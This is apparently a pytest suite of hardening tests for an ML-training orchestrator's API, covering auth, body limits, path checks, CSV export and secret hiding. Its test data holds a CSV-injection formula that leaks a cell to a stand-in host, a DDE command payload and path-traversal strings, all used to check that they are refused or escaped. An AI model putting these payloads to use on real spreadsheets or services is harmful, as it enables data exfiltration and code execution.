"""Failures a review reproduced against the API and the controller's files, each pinned by a test
(real app, real database: Postgres in CI, SQLite otherwise)."""

from __future__ import annotations

import asyncio
import csv
import io
import stat
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import event, func, select
from sqlalchemy.orm import Session

from orchestrator.app import create_app
from orchestrator.db.models import Grid, Node, Run, Schedule
from orchestrator.db.session import session_scope
from orchestrator.settings import Settings, SettingsError
from tests.kit.net import free_port

TOKEN = "hardening-token-0123456789"
AUTH = {"Authorization": f"Bearer {TOKEN}"}
TINY = {"model": {"size": "tiny"}, "schedule": {"steps": 10, "batch_size": 4, "warmup_steps": 1}}


@pytest.fixture(scope="module")
def storage(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("storage")


def make_app(database_url: str, storage: Path, **settings: Any):  # noqa: ANN201
    return create_app(Settings(database_url=database_url, home_dir=storage, **settings), TOKEN)


@pytest.fixture
def client(database_url: str, storage: Path) -> Iterator[TestClient]:
    with TestClient(make_app(database_url, storage)) as c:
        yield c


# -- 1. the body of an unauthenticated or oversized request is never read ------------------------------


def _asgi_post(app: Any, path: str, chunks: list[bytes], headers: list[tuple[bytes, bytes]]) -> tuple[int, int]:
    """POST through the ASGI interface; returns (status, body bytes the app pulled from the client)."""
    pulled = 0
    sent: list[dict[str, Any]] = []
    queue = [{"type": "http.request", "body": c, "more_body": i < len(chunks) - 1} for i, c in enumerate(chunks)]

    async def receive() -> dict[str, Any]:
        nonlocal pulled
        if not queue:
            await asyncio.sleep(3600)  # a client that sends nothing more
        msg = queue.pop(0)
        pulled += len(msg["body"])
        return msg

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    scope = {
        "type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "POST", "scheme": "http",
        "path": path, "raw_path": path.encode(), "query_string": b"", "root_path": "",
        "headers": [(b"host", b"test"), (b"content-type", b"application/json"), *headers],
        "client": ("127.0.0.1", 1), "server": ("test", 80),
    }
    asyncio.run(asyncio.wait_for(app(scope, receive, send), 30))
    start = next(m for m in sent if m["type"] == "http.response.start")
    return start["status"], pulled


def test_write_without_token_is_401_before_the_body_is_read(database_url: str, storage: Path) -> None:
    app = make_app(database_url, storage)
    chunk = b"[" * (1 << 20)  # 66 MB took the server from 89 to 642 MB RSS before
    # Streamed without a length, and declared over the limit: nothing is pulled either way.
    assert _asgi_post(app, "/api/grids", [chunk] * 64, []) == (401, 0)
    declared = [(b"content-length", str(64 << 20).encode())]
    assert _asgi_post(app, "/api/grids", [chunk] * 64, declared) == (413, 0)
    # A 5000-deep body got 400 (it was parsed) before.
    deep = b"[" * 5000 + b"]" * 5000
    assert _asgi_post(app, "/api/grids", [deep], [(b"content-length", str(len(deep)).encode())]) == (401, 0)


def test_body_over_the_limit_is_413_without_reading_it_all(database_url: str, storage: Path) -> None:
    app = make_app(database_url, storage)
    auth = [(b"authorization", f"Bearer {TOKEN}".encode())]
    chunk = b" " * (256 << 10)
    # Declared too large: refused from the header.
    status, pulled = _asgi_post(app, "/api/grids", [chunk] * 8, [*auth, (b"content-length", str(2 << 20).encode())])
    assert status == 413 and pulled < 2 << 20
    # Chunked, no length: refused once past the limit, the rest is never pulled.
    status, pulled = _asgi_post(app, "/api/grids", [chunk] * 64, auth)
    assert status == 413 and pulled <= (1 << 20) + len(chunk)


def test_body_limit_is_a_setting(database_url: str, storage: Path) -> None:
    with TestClient(make_app(database_url, storage, max_body_bytes=4096)) as c:
        body = {"name": "x" * 100, "arms": ["A"], "overrides": {**TINY, "description": "y" * 5000}}
        assert c.post("/api/grids", json=body, headers=AUTH).status_code == 413


# -- 3. a write is answered only after its commit ----------------------------------------------------------


def test_failed_commit_is_never_reported_as_success(database_url: str, storage: Path, tmp_path: Path) -> None:
    key, hosts = tmp_path / "id_ed25519", tmp_path / "known_hosts"
    key.write_text("k")
    hosts.write_text("")
    app = make_app(database_url, storage, ssh_key_dirs=[tmp_path])
    node = {"name": "commit-node", "host": "h", "user": "u", "key_path": str(key), "known_hosts_path": str(hosts),
            "gpus": 1}
    schedule = {"name": "commit-sched", "cron": "0 2 * * *", "grid": {"name": "g", "arms": ["A"], "overrides": TINY},
                "nodes": ["commit-node2"]}
    with TestClient(app) as c:
        assert c.post("/api/nodes", json={**node, "name": "commit-node2"}, headers=AUTH).status_code == 201
        assert c.post("/api/schedules", json=schedule, headers=AUTH).status_code == 201
    with TestClient(app, raise_server_exceptions=False) as c:
        # Every ORM commit fails, as when the database goes away between the write and its commit.
        event.listen(Session, "before_commit", _refuse)
        try:
            created = c.post("/api/nodes", json=node, headers=AUTH)
            paused = c.post("/api/schedules/commit-sched/pause", headers=AUTH)
            deleted = c.delete("/api/schedules/commit-sched", headers=AUTH)
        finally:
            event.remove(Session, "before_commit", _refuse)
    assert [created.status_code, paused.status_code, deleted.status_code] == [500, 500, 500]
    with session_scope(database_url) as session:
        assert session.scalar(select(Node).where(Node.name == "commit-node")) is None
        kept = session.scalar(select(Schedule).where(Schedule.name == "commit-sched"))
        assert kept is not None and not kept.paused


def _refuse(session: Session) -> None:
    raise RuntimeError("injected commit failure")


# -- 4. reads that expose infrastructure need the token ------------------------------------------------------


def test_node_and_schedule_reads_need_the_token(client: TestClient) -> None:
    for path in ("/api/nodes", "/api/nodes/x", "/api/schedules", "/api/schedules/x", "/api/instances"):
        resp = client.get(path)
        assert resp.status_code == 401, path
        assert resp.headers["www-authenticate"] == "Bearer"
    assert client.get("/api/nodes", headers=AUTH).status_code == 200
    assert client.get("/api/schedules", headers=AUTH).status_code == 200


def test_private_reads_close_grids_runs_and_dashboard(database_url: str, storage: Path) -> None:
    with TestClient(make_app(database_url, storage, private_reads=True)) as c:
        grid_id = c.post("/api/grids", json={"name": "p", "arms": ["A"], "overrides": TINY}, headers=AUTH).json()["id"]
        run_id = c.get(f"/api/grids/{grid_id}", headers=AUTH).json()["runs"][0]["id"]
        for path in ("/", "/api/grids", f"/api/grids/{grid_id}", f"/api/runs/{run_id}", "/api/dashboard/grids",
                     f"/api/grids/{grid_id}/metrics.csv", f"/grids/{grid_id}", f"/api/runs/{run_id}/samples"):
            assert c.get(path).status_code == 401, path
            assert c.get(path, headers=AUTH).status_code == 200, path
        assert c.get("/healthz").status_code == 200
    with TestClient(make_app(database_url, storage)) as c:  # the default keeps them open (the dashboard)
        assert c.get(f"/api/runs/{run_id}").status_code == 200


# -- 5. absurd specs are refused at submission ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("overrides", "loc"),
    [
        ({"model": {"hidden": 4000000000000000000000}}, ["body", "overrides", "model", "hidden"]),
        ({"data": {"resolution": 1e9}}, ["body", "overrides", "data", "resolution"]),
        ({"schedule": {"steps": 1e18}}, ["body", "overrides", "schedule", "steps"]),
        ({"schedule": {"batch_size": 1e9}}, ["body", "overrides", "schedule", "batch_size"]),
        ({"model": {"depth": 100000, "hidden": 65536}}, ["body", "overrides", "model", "depth"]),
        ({"data": {"seed": 2**70}}, ["body", "overrides", "data", "seed"]),
    ],
)
def test_spec_sizes_have_upper_bounds(client: TestClient, overrides: dict, loc: list) -> None:
    resp = client.post("/api/grids", json={"name": "big", "arms": ["A"], "overrides": overrides}, headers=AUTH)
    assert resp.status_code == 422, resp.text
    assert loc in [e["loc"] for e in resp.json()["detail"]]


def test_model_too_large_for_any_gpu_names_the_estimate(client: TestClient) -> None:
    over = {"model": {"depth": 512, "hidden": 16384, "heads": 128}}
    resp = client.post("/api/grids", json={"name": "huge", "arms": ["A"], "overrides": over}, headers=AUTH)
    assert resp.status_code == 422
    (err,) = resp.json()["detail"]
    assert err["loc"] == ["body", "overrides", "model"]
    assert "GiB" in err["msg"] and "parameters" in err["msg"] and "141" in err["msg"]


def test_peak_memory_over_the_cap_is_422_with_the_estimate(database_url: str, storage: Path) -> None:
    with TestClient(make_app(database_url, storage, max_gpu_memory_gib=24)) as c:
        # batch 256 at 4096 tokens in one micro-batch
        seed = {"name": "seed", "arms": [{"parent": "A", "name": "A-seed", "schedule": {"micro_batch": 256}}]}
        resp = c.post("/api/grids", json=seed, headers=AUTH)
        assert resp.status_code == 422
        (err,) = resp.json()["detail"]
        assert err["loc"] == ["body", "arms", 0, "schedule"]
        assert "estimated peak GPU memory" in err["msg"] and "24 GiB" in err["msg"] and "micro_batch" in err["msg"]
        fits = {"name": "seed-accum", "arms": [{"parent": "A", "name": "A", "schedule": {"grad_accum": 64}}]}
        assert c.post("/api/grids", json=fits, headers=AUTH).status_code == 201
        # the defaults (micro_batch auto) fit: the trainer finds the micro-batch on the GPU
        auto = {"name": "seed-auto", "arms": [{"parent": "A", "name": "A"}]}
        assert c.post("/api/grids", json=auto, headers=AUTH).status_code == 201


# -- 6. spec paths to files on the workers ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("overrides", "loc", "needle"),
    [
        ({"repa": {"enabled": True, "teacher_path": "/w/dinov2"}}, ["repa", "teacher_path"], "never a directory"),
        ({"repa": {"enabled": True, "teacher_path": "/w/../etc/x.pth"}}, ["repa", "teacher_path"], "'..'"),
        ({"repa": {"enabled": True, "teacher_path": "/tmp/evil/t.pth"}}, ["repa", "teacher_path"], "WEIGHTS_DIRS"),
        ({"eval": {"lpips_weights": "/home/u/alex.pth"}}, ["eval", "lpips_weights"], "ABLATE_WEIGHTS_DIRS"),
        ({"data": {"dataset": "imagefolder", "path": "/etc"}}, ["data", "path"], "ABLATE_DATA_DIRS"),
        ({"data": {"dataset": "prepared", "url": "s3://other/faces"}}, ["data", "url"], "ABLATE_DATA_URLS"),
        ({"data": {"dataset": "prepared", "url": "s3://lab/data-evil"}}, ["data", "url"], "ABLATE_DATA_URLS"),
        ({"data": {"dataset": "prepared", "url": "s3://lab/data/../x"}}, ["data", "url"], "'..'"),
    ],
)
def test_worker_paths_must_be_under_the_operator_dirs(
    database_url: str, storage: Path, overrides: dict, loc: list, needle: str
) -> None:
    dirs = {"weights_dirs": [Path("/w")], "data_dirs": [Path("/data")], "data_urls": ["s3://lab/data/"]}
    with TestClient(make_app(database_url, storage, **dirs)) as c:
        body = {"name": "paths", "arms": ["A"], "overrides": {**TINY, **overrides}}
        resp = c.post("/api/grids", json=body, headers=AUTH)
        assert resp.status_code == 422, resp.text
        (err,) = resp.json()["detail"]
        assert err["loc"] == ["body", "overrides", *loc] and needle in err["msg"]
        ok = {**TINY, "repa": {"enabled": True, "teacher_path": "/w/dinov2_vitb14_pretrain.pth"},
              "data": {"dataset": "imagefolder", "path": "/data/faces"}}
        assert c.post("/api/grids", json={**body, "overrides": ok}, headers=AUTH).status_code == 201
        fetched = {**TINY, "data": {"dataset": "prepared", "url": "s3://lab/data/faces"}}
        assert c.post("/api/grids", json={**body, "overrides": fetched}, headers=AUTH).status_code == 201


# -- 8. CSV export ------------------------------------------------------------------------------------------


def test_csv_cells_are_never_formulas(client: TestClient, database_url: str) -> None:
    from orchestrator.runs.ingest import ingest

    name = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
    body = {"name": name, "arms": ["A", "B"], "overrides": TINY}  # arm names are letters, digits, . _ -
    grid_id = client.post("/api/grids", json=body, headers=AUTH).json()["id"]
    with session_scope(database_url) as session:
        for run in session.scalars(select(Run).where(Run.grid_id == grid_id)):
            ingest(session, run, [{"step": 5, "recon_lpips": 0.5, "lpips_backbone": "+cmd|' /C calc'!A0"}])
    rows = list(csv.DictReader(io.StringIO(client.get(f"/api/grids/{grid_id}/metrics.csv").text)))
    assert len(rows) == 2
    for row in rows:
        for key, cell in row.items():
            if key != "extra":  # one JSON value, starting with "{"
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (key, cell)
    assert rows[0]["grid"] == "'" + name and rows[0]["lpips_backbone"] == "'+cmd|' /C calc'!A0"
    assert float(rows[0]["recon_lpips"]) == 0.5  # numbers stay numbers


# -- 9. the grid list is paged ------------------------------------------------------------------------------


def test_grid_list_and_dashboard_are_paged(database_url: str, storage: Path) -> None:
    from orchestrator.grids.service import GridCreate, create_grid

    with session_scope(database_url) as session:
        for i in range(60):
            create_grid(session, GridCreate(name=f"page-{i}", arms=["A"], overrides=TINY))
        total = session.scalar(select(func.count()).select_from(Grid))
    with TestClient(make_app(database_url, storage)) as c:
        first = c.get("/api/dashboard/grids").json()
        assert len(first) == 50 and first[0]["name"] == "page-59"
        second = c.get("/api/dashboard/grids", params={"offset": 50, "limit": 20}).json()
        assert [g["id"] for g in second] == sorted((g["id"] for g in second), reverse=True)
        assert second[0]["id"] == first[-1]["id"] - 1
        assert c.get("/api/dashboard/grids", params={"limit": 100000}).status_code == 422
        page = c.get("/").text
        assert page.count("data-grid-id=") == 50 and f"of {total}" in page and "offset=50" in page


# -- 11. the small ones ---------------------------------------------------------------------------------------


def test_short_token_is_refused(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    from orchestrator.server import read_token
    from orchestrator.settings import load_settings

    monkeypatch.setenv("ABLATE_API_TOKEN", "x")
    with pytest.raises(SettingsError, match="ABLATE_API_TOKEN"):
        read_token(load_settings())
    monkeypatch.delenv("ABLATE_API_TOKEN")
    (tmp_path / "api_token").write_text("short\n")
    with pytest.raises(SettingsError, match="shorter than 16"):
        read_token(Settings(home_dir=tmp_path))


def test_token_file_db_and_storage_are_owner_only(tmp_path: Path) -> None:
    from orchestrator.server import prepare

    storage = tmp_path / "st"
    storage.mkdir(mode=0o755)
    storage.chmod(0o755)
    token_file = storage / "api_token"
    token_file.touch()
    token_file.chmod(0o644)  # pre-existing and empty: a new token is written into it
    db = storage / "ablate.db"
    token = prepare(Settings(database_url=f"sqlite:///{db}", home_dir=storage))
    assert len(token) >= 16 and token_file.read_text().strip() == token
    assert stat.S_IMODE(token_file.stat().st_mode) == 0o600
    assert stat.S_IMODE(db.stat().st_mode) == 0o600
    assert stat.S_IMODE(storage.stat().st_mode) == 0o700


def test_status_prints_markup_like_names_verbatim(client: TestClient, ablate_cli: Any, database_url: str) -> None:
    grid_id = client.post("/api/grids", json={"name": "[/] [bold]x", "arms": ["A"], "overrides": TINY},
                          headers=AUTH).json()["id"]
    listing = ablate_cli(database_url, "status")
    assert listing.returncode == 0, listing.stderr
    assert "[/] [bold]x" in listing.stdout
    detail = ablate_cli(database_url, "status", str(grid_id))
    assert detail.returncode == 0, detail.stderr
    assert "[/] [bold]x" in detail.stdout


def test_node_route_errors_are_clear_not_500(database_url: str, storage: Path, tmp_path: Path,
                                             monkeypatch: pytest.MonkeyPatch) -> None:
    key, hosts = tmp_path / "id_ed25519", tmp_path / "known_hosts"
    key.write_text("not a private key\n")
    hosts.write_text("[127.0.0.1]:1 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl\n")
    with TestClient(make_app(database_url, storage, ssh_key_dirs=[tmp_path]), raise_server_exceptions=False) as c:
        node = {"name": "err-node", "host": "127.0.0.1", "port": 1, "user": "u",
                "key_path": str(key), "known_hosts_path": str(hosts), "gpus": 1}
        assert c.post("/api/nodes", json=node, headers=AUTH).status_code == 201
        monkeypatch.setenv("ABLATE_NODE_COMMAND_TIMEOUT_S", "soon")  # an operator's typo in the node settings
        resp = c.post("/api/nodes/err-node/bootstrap", headers=AUTH)
        assert resp.status_code == 424 and "ABLATE_NODE_" in resp.json()["detail"]
        monkeypatch.delenv("ABLATE_NODE_COMMAND_TIMEOUT_S")
        resp = c.post("/api/nodes/err-node/probe", headers=AUTH)  # nothing listens on port 1
        assert resp.status_code == 424 and "err-node" in resp.json()["detail"]


def test_an_unreachable_database_is_503_with_retry_after(storage: Path) -> None:
    port = free_port()  # nothing listens on it
    app = make_app(f"postgresql+psycopg://postgres@127.0.0.1:{port}/none", storage)
    with TestClient(app, raise_server_exceptions=False) as c:
        for resp in (c.get("/api/grids"), c.post("/api/grids", json={"name": "x", "arms": ["A"]}, headers=AUTH)):
            assert resp.status_code == 503 and resp.headers["retry-after"] == "2"
            assert "database is unavailable" in resp.json()["detail"]


def test_open_dashboard_hides_sweep_errors(client: TestClient, database_url: str, storage: Path) -> None:
    from orchestrator.db.models import Sweep, utcnow

    secret = "ssh ubuntu@203.0.113.7: pip install failed in /home/ubuntu/ablate/venv"
    with session_scope(database_url) as session:
        schedule = Schedule(name="leaky", cron="0 2 * * *", grid={"name": "g", "arms": ["A"]}, nodes=[])
        session.add(schedule)
        session.flush()
        session.add(Sweep(schedule_id=schedule.id, scheduled_for=utcnow(), fired_at=utcnow(), state="failed",
                          nodes=[], error=secret))
    assert secret not in client.get("/").text and "GET /api/schedules/leaky" in client.get("/").text
    assert secret in client.get("/", headers=AUTH).text


# -- 12. what the account pays is shown only to requests with the token ----------------------------------


def test_cost_spend_and_budget_are_shown_only_with_the_token(client: TestClient, database_url: str) -> None:
    from orchestrator.db.models import RentedInstance, Sweep, utcnow

    with session_scope(database_url) as session:
        schedule = Schedule(name="money-night", cron="0 22 * * *", grid={"name": "m", "arms": ["A"]}, budget=73.5)
        session.add(schedule)
        session.flush()
        sweep = Sweep(
            schedule_id=schedule.id, scheduled_for=utcnow(), fired_at=utcnow(), state="stopped", budget=73.5,
            spend=41.29, price_per_hour=3.917, stop_reason="budget 73.5 reached: spent 41.29 (10.54 h x 3.917/h)",
        )
        session.add(sweep)
        session.flush()
        session.add(RentedInstance(
            sweep_id=sweep.id, provider="vast", instance_id="88001", gpu_name="RTX 4090", gpus=4,
            price_per_hour=3.917, label=f"ablate.night.s{sweep.id}", state="destroy_failed", created_at=utcnow(),
        ))
    figures = ("73.5", "41.29", "3.917")
    open_page = client.get("/")
    assert open_page.status_code == 200 and 'data-instance="vast-88001"' in open_page.text  # the sweep is listed
    assert "DESTROY NOT CONFIRMED" in open_page.text  # and what may still bill is still red
    assert [f for f in figures if f in open_page.text] == []
    assert "spend and budget with the API token: GET /api/schedules/money-night" in open_page.text
    assert client.get("/api/schedules/money-night").status_code == 401
    with_token = client.get("/", headers=AUTH).text
    assert all(f in with_token for f in figures) and "/h" in with_token
    public = client.get("/api/schedules/money-night", headers=AUTH).json()["sweeps"][0]
    assert (public["spend"], public["budget"], public["instances"][0]["price_per_hour"]) == (41.29, 73.5, 3.917)
